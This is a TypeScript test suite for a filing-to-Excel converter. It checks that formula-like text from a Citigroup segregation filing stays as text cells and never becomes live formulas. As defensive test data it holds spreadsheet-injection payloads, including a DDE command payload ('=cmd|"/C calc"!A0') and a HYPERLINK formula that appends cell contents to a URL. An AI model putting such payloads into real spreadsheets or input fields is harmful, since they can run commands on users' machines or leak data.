import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { ValueType, type Workbook } from "exceljs";
import { checkFiling } from "../../src/core/checks";
import { layoutWorkbook } from "../../src/core/layout";
import type { Filing, ParseResult } from "../../src/core/model";
import { parseFilings } from "../../src/core/parse";
import { sheetGrid } from "../../src/excel/sheet-grid";
import { writeXlsx } from "../../src/xlsx";
import { readXlsx } from "../support/xlsx-hyperformula";

/**
 * Injection: text from a filing that begins like a formula (`=`, `+`, `-`, `@`) or with a
 * tab or CR survives the parser as text and lands as text — in the .xlsx as a text cell, in Excel
 * through the Office.js writer's grid as a quote-prefixed value in a Text-formatted cell — never as
 * a formula; filing text reaches a formula only inside a string literal or a quoted sheet name.
 */
const SAMPLE = readFileSync(
  join(__dirname, "../fixtures/citigroup-2013-06-18-daily-seg-focus-ii-amendment.txt"),
  "utf8",
);
const FIRM = '=HYPERLINK("http://example.invalid/?"&A1,"Citigroup")';
const LABELS = [
  "=SUM(1,2) Cash",
  "+Securities (at market)",
  "-Net unrealized profit (loss) in open futures contracts traded on a contract market",
  "@Add market value of open option contracts purchased on a contract market",
];
const NOTE = "=1+1 Input for Sequestration Statement will not be required until 10/4/2010.";
const TITLE = 'Daily Segregation - =cmd|"/C calc"!A0 Statement';

const hostile = SAMPLE.replace(/(Firm Name:)Citigroup Global Markets Inc\./g, `$1\t${FIRM}`)
  .replace("\tA. Cash\t<b><u>5,598,505,864", `\tA. ${LABELS[0]}\t<b><u>5,598,505,864`)
  .replace("\tB. Securities (at market)\t", `\tB. ${LABELS[1]}\t`)
  .replace("2.\tNet unrealized profit (loss) in open futures", "2.\t-Net unrealized profit (loss) in open futures")
  .replace("\tA. Add market value", "\tA. @Add market value")
  .replace("Input for Sequestration Statement will not", "=1+1 Input for Sequestration Statement will not")
  .replace("**Daily Segregation - Sequestration Statement**", `**${TITLE}**`);

/** Every non-empty cell of the workbook with its ExcelJS type and value. */
function cells(wb: Workbook): { sheet: string; address: string; type: ValueType; value: unknown }[] {
  const out: { sheet: string; address: string; type: ValueType; value: unknown }[] = [];
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((c) => void out.push({ sheet: ws.name, address: c.address, type: c.type, value: c.value })),
    ),
  );
  return out;
}

/** A formula with its "string literals" and 'quoted sheet names' taken out: what Excel would evaluate as code. */
function codeOf(formula: string): string {
  let out = "";
  for (let i = 0; i < formula.length; i++) {
    const quote = formula[i];
    if (quote !== '"' && quote !== "'") {
      out += quote;
      continue;
    }
    // Skip to the closing quote; a doubled quote inside is an escaped one.
    for (i++; i < formula.length; i++) if (formula[i] === quote && formula[++i] !== quote) break;
    i--;
    out += "□";
  }
  return out;
}

async function workbookOf(filing: Filing, result?: ParseResult): Promise<Workbook> {
  const plan = layoutWorkbook({
    filings: [filing],
    findings: [checkFiling(filing)],
    sourceName: "=evil().txt",
    tolerance: 0,
    diagnostics: result?.diagnostics ?? [],
  });
  return readXlsx(await writeXlsx(plan));
}

describe("injection: filing text that looks like a formula stays text", () => {
  const parsed = parseFilings(hostile);
  const filing = parsed.filings[0]!;

  it("survives the parser as text: firm, labels, note and title as printed (a tab before a value only separates)", () => {
    assert.equal(parsed.filings.length, 1);
    assert.equal(filing.firm, FIRM);
    assert.deepEqual(
      filing.statements[1]?.lines.slice(0, 4).map((l) => l.label),
      LABELS,
    );
    assert.equal(filing.statements[2]?.title, TITLE);
    assert.deepEqual(
      filing.statements[2]?.notes.map((n) => n.text),
      [NOTE],
    );
    assert.equal(
      filing.statements[1]?.lines[0]?.value,
      5598505864,
      "the figure beside a hostile label is read as usual",
    );
  });

  it("lands in the .xlsx as text cells, never as formulas", async () => {
    const all = cells(await workbookOf(filing, parsed));
    for (const text of [FIRM, ...LABELS, NOTE, TITLE, "=evil().txt"]) {
      const holders = all.filter((c) => typeof c.value === "string" && c.value.includes(text));
      assert.ok(holders.length > 0, `${text} is in the workbook`);
      for (const c of holders) assert.equal(c.type, ValueType.String, `${c.sheet}!${c.address}`);
      assert.ok(
        all.some((c) => c.value === text),
        `${text} has a cell of its own, exactly`,
      );
    }
  });

  it("reaches a formula only inside a string literal or a quoted sheet name", async () => {
    const formulas = cells(await workbookOf(filing, parsed)).flatMap((c) =>
      typeof c.value === "object" && c.value !== null && "formula" in c.value
        ? [{ at: `${c.sheet}!${c.address}`, formula: String(c.value.formula) }]
        : [],
    );
    assert.ok(
      formulas.some((f) => f.formula.includes("cmd|")),
      "the unknown statement's sheet is referred to by formulas",
    );
    for (const { at, formula } of formulas) {
      const code = codeOf(formula);
      for (const marker of ['HYPERLINK("http', "SUM(1,2)", "cmd", "calc", "evil", "1+1"])
        assert.ok(!code.includes(marker), `${at}: ${formula}`);
    }
  });

  it("keeps a tab or CR at the start of a label, firm or note as text (possible only in a hand-built filing)", async () => {
    // In filing text a tab separates fields and CR ends a line, so neither can begin a parsed value.
    const segregation = filing.statements[1]!;
    const odd: Filing = {
      ...filing,
      firm: "\t@firm",
      statements: filing.statements.map((s) =>
        s !== segregation
          ? s
          : {
              ...s,
              notes: [{ text: "\r-3 note", sourceLine: 60 }],
              lines: s.lines.map((l, i) =>
                i === 0 ? { ...l, label: "\t=1+1 tab" } : i === 1 ? { ...l, label: "\r=2+2 cr" } : l,
              ),
            },
      ),
    };
    const all = cells(await workbookOf(odd));
    for (const text of ["\t@firm", "\t=1+1 tab", "\r=2+2 cr", "\r-3 note"]) {
      const [cell, ...more] = all.filter(
        (c) => typeof c.value === "string" && c.value.replace(/\r\n?/g, "\n") === text.replace(/\r/g, "\n"),
      );
      assert.ok(cell, JSON.stringify(text));
      assert.equal(cell.type, ValueType.String);
      assert.equal(more.length, 0);
    }
  });

  it("keeps a carriage return in text, written _x000D_ as OOXML does (XML readers turn a raw CR into a line feed)", async () => {
    const odd: Filing = { ...filing, firm: "\r=2+2 cr" };
    assert.ok(cells(await workbookOf(odd)).some((c) => c.value === "\r=2+2 cr"));
  });
});

describe("injection: the Office.js writer's grid writes filing text as text", () => {
  const filing = parseFilings(hostile).filings[0]!;
  const plan = layoutWorkbook({
    filings: [filing],
    findings: [checkFiling(filing)],
    sourceName: "=evil().txt",
    tolerance: 0,
  });
  const grids = plan.sheets.map((sheet) => ({ sheet, grid: sheetGrid(sheet, plan.styles) }));

  it("quote-prefixes every text or link cell that Excel could read as a formula, in a cell formatted as Text", () => {
    let hostileCells = 0;
    for (const { sheet, grid } of grids)
      sheet.rows.forEach((row, r) =>
        row.forEach((cell, c) => {
          if ((cell?.kind !== "text" && cell?.kind !== "link") || !/^[=+\-@\t\r]/.test(cell.text)) return;
          hostileCells++;
          assert.equal(grid.formulas[r]?.[c], `'${cell.text}`, `${sheet.name} row ${r + 1}`);
          assert.equal(grid.numberFormats[r]?.[c], "@");
        }),
      );
    assert.ok(hostileCells >= LABELS.length + 2, `${hostileCells} hostile text cells`);
  });

  it("sends as a formula only what the plan built as one, with filing text only inside literals or quoted sheet names", () => {
    for (const { sheet, grid } of grids)
      grid.formulas.forEach((row, r) =>
        row.forEach((value, c) => {
          if (typeof value !== "string" || !value.startsWith("=")) return;
          assert.equal(sheet.rows[r]?.[c]?.kind, "formula", `${sheet.name} row ${r + 1}: ${value}`);
          for (const marker of ['HYPERLINK("http', "SUM(1,2)", "cmd", "calc", "evil", "1+1"])
            assert.ok(!codeOf(value).includes(marker), value);
        }),
      );
  });
});
